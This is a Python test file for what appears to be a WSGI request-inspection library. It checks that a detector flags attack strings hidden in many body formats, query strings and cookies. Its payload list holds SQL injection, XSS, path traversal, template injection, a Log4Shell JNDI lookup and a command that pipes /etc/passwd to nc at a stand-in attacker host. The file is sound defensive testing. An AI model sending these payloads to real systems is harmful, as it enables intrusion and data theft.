"""Known payloads are refused at any place of any document of any format, whatever surrounds them
and whatever can't be read there."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote_plus
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guard_wsgi.detection import BUDGET, Detector, Inspection
from guard_wsgi.detection.formats import structure
from tests.detection.requests import environ

PAYLOADS = (
    "1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 80",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://evil.example/a}",
    "http://127.0x0.0x0.0x1/",
    "{0.__class__.__init__.__globals__}",
)
# Text that some readers can't process: endless numbers, halves of characters, broken structures.
FAULTS = (
    *("&#" + "9" * 5000 + ";", "\ud800", "\x00", "%", "%u12", "%ff%fe", "\\u12", "\\x", "{", "[" * 20),
    *('{"a":', "<a", "<?xml version='1.0'?><a>&b;", "query{a(b:", "eyJhIjox.eyJ9.x", "data:;base64,=", "&#x110000;"),
    *("http://[", "http://a:99999999/", "=?utf-8?q?", "1e999999", "-" * 40, "1" * 5000, "\ufeff", "\U000e0001"),
)  # fmt: skip
HEADS = Detector().compile()
PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
BESIDE = st.one_of(st.sampled_from(FAULTS), PLAIN)
LEAVES = st.one_of(BESIDE, st.integers(-(10**6), 10**6), st.booleans(), st.none())
DOCUMENTS = st.recursive(
    LEAVES,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.text("abc_ $.", max_size=5), inner, max_size=4),
    ),
    max_leaves=12,
)


def sown(node: Any, payload: str, choose: Callable[[int], int]) -> Any:
    """The document with the payload at some place in it."""
    if isinstance(node, list):
        at = choose(len(node) + 1)
        if at < len(node) and isinstance(node[at], (list, dict)):
            return [*node[:at], sown(node[at], payload, choose), *node[at + 1 :]]
        return [*node[:at], payload, *node[at:]]
    if isinstance(node, dict):
        keys = list(node)
        at = choose(len(keys) + 1)
        if at < len(keys):
            return {**node, keys[at]: sown(node[keys[at]], payload, choose)}
        return {**node, "item": payload}
    return payload


def as_xml(node: Any) -> str:
    if isinstance(node, list):
        return "".join(f"<i>{as_xml(one)}</i>" for one in node)
    if isinstance(node, dict):
        return "".join(f"<i a={quoteattr(str(key))}>{as_xml(one)}</i>" for key, one in node.items())
    return escape(str(node))


def leaves(node: Any) -> list[str]:
    if isinstance(node, list):
        return [leaf for one in node for leaf in leaves(one)]
    if isinstance(node, dict):
        return [leaf for one in node.values() for leaf in leaves(one)]
    return [str(node)]


def as_form(node: Any) -> bytes:
    said = [leaf.encode("utf-8", "surrogatepass") for leaf in leaves(node)]
    return b"&".join(b"p%d=%s" % (n, quote_plus(one).encode()) for n, one in enumerate(said))


def as_multipart(node: Any, more: bytes = b"") -> bytes:
    parts = [
        b'--B\r\nContent-Disposition: form-data; name="p%d"%s\r\n\r\n%s\r\n' % (n, more, said)
        for n, said in enumerate(said_in(node))
    ]
    return b"".join(parts) + b"--B--\r\n"


def said_in(node: Any) -> list[bytes]:
    return [leaf.encode("utf-8", "surrogatepass") for leaf in leaves(node)]


def as_base64_parts(node: Any) -> bytes:
    """As Django decodes them."""
    parts = [
        b'--B\r\nContent-Disposition: form-data; name="p%d"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n" % (n, base64.encodebytes(said))
        for n, said in enumerate(said_in(node))
    ]
    return b"".join(parts) + b"--B--\r\n"


def as_lines(node: Any) -> bytes:
    return b"\n".join(json.dumps({"a": one}).encode() for one in [*leaves(node), "tea"])


def as_query(node: Any) -> bytes:
    """A query of GraphQL with the document as variables."""
    query = "query($a: [String]) { b(c: $a) { d } }"
    return json.dumps({"query": query, "variables": {"b": {"c": node}}}).encode()


FORMATS: dict[str, tuple[str, Callable[[Any], bytes]]] = {
    "JSON": ("application/json", lambda node: json.dumps(node).encode()),
    "JSON, not ASCII": (
        "application/json",
        lambda node: json.dumps(node, ensure_ascii=False).encode("utf-8", "surrogatepass"),
    ),
    "JSON, pretty, as text": ("text/plain", lambda node: json.dumps([node], indent=2).encode()),
    "JSON, UTF-16": ("application/json", lambda node: json.dumps([node]).encode("utf-16")),
    "JSON, as a file": ("image/png", lambda node: json.dumps([node]).encode()),
    "JSON, as a form": (
        "application/x-www-form-urlencoded",
        lambda node: b" " * 70 + json.dumps({"x": "a=b&c", "y": node}).encode(),
    ),
    "JSON, on lines": ("application/x-ndjson", as_lines),
    "JSON, compressed": (
        "application/json",
        lambda node: gzip.compress(json.dumps([node]).encode()),
    ),
    "JSON in JSON": (
        "application/json",
        lambda node: json.dumps({"a": json.dumps([node])}).encode(),
    ),
    "JSON in base64": (
        "application/json",
        lambda node: json.dumps(
            {"a": base64.b64encode(json.dumps([node], indent=1).encode()).decode()}
        ).encode(),
    ),
    "GraphQL": ("application/json", as_query),
    "form": ("application/x-www-form-urlencoded", as_form),
    "form, a type beside": ("application/octet-stream", as_form),
    "multipart": ("multipart/form-data; boundary=B", as_multipart),
    "multipart, LF": (
        "multipart/form-data; boundary=B",
        lambda node: as_multipart(node).replace(b"\r\n", b"\n"),
    ),
    "multipart, no file name": (
        "multipart/form-data; boundary=B",
        lambda node: as_multipart(node, b'; filename=""'),
    ),
    "multipart, base64": ("multipart/form-data; boundary=B", as_base64_parts),
    "XML": (
        "text/xml",
        lambda node: f"<a>{as_xml(node)}</a>".encode("utf-8", "surrogatepass"),
    ),
    "XML, as text": (
        "text/plain",
        lambda node: f"<a><!-- -->{as_xml(node)}</a>".encode("utf-8", "surrogatepass"),
    ),
}


@pytest.mark.parametrize("name", FORMATS)
def test_a_payload_is_refused_at_any_place_of_a_document(inspection: Inspection, name: str) -> None:
    kind, written = FORMATS[name]

    @settings(
        max_examples=50,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(DOCUMENTS, st.sampled_from(PAYLOADS), st.data())
    def refused(document: Any, payload: str, data: st.DataObject) -> None:
        node = sown(document, payload, lambda size: data.draw(st.integers(0, size - 1)))
        body = written(node)
        found = inspection.body(body, content_type=kind)
        assert [one for one in found if one.category != BUDGET], body

    refused()


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.lists(BESIDE, max_size=6), st.sampled_from(PAYLOADS), st.data())
def test_a_payload_is_refused_at_any_place_of_a_head(
    said: list[str], payload: str, data: st.DataObject
) -> None:
    at = data.draw(st.integers(0, len(said)))
    values = [one.encode("utf-8", "surrogatepass") for one in (*said[:at], payload, *said[at:])]
    query = "&".join(f"p{n}={quote_plus(one)}" for n, one in enumerate(values))
    assert HEADS.head(environ(query=query)), query
    cookie = "; ".join(f"c{n}={quote_plus(one)}" for n, one in enumerate(values))
    assert HEADS.head(environ(HTTP_COOKIE=cookie)), cookie


READERS = (
    ("mail_values", "From: a@b.example\n\ntea"),
    ("parsed_json", '{"a": "tea"}'),
    ("document_in_base64", "eyJhIjogInRlYSBhbmQgc2NvbmVzIn0"),
    ("token_documents", "eyJhIjoxfQ.eyJhIjoxfQ.c2lnbmF0dXJl"),
    ("graphql_values", "query { a(b: 1) { c } }"),
    ("markup_values", '<?xml version="1.0"?><a>tea</a>'),
    ("_unfold_url", "https://a.example/?b=tea"),
    ("_pairs", "a=tea&b=scones"),
)


@pytest.mark.parametrize(("reader", "said"), READERS)
def test_a_reader_that_fails_is_a_finding_and_the_rest_is_read(
    reader: str, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Faults of readers that nobody knows yet."""

    def fail(*given: object) -> None:
        raise ZeroDivisionError(reader)

    monkeypatch.setattr(structure, reader, fail)
    inspection = Detector().compile()
    # Something in it needs a closer look, so that it is read.
    beside = json.dumps([said, "' or 1=1-- -"]).encode()
    found = inspection.body(beside, content_type="application/json")
    assert "unread_value" in {name for one in found for name in one.indicators}, found
    assert [one for one in found if one.category != BUDGET], "the rest was not read"
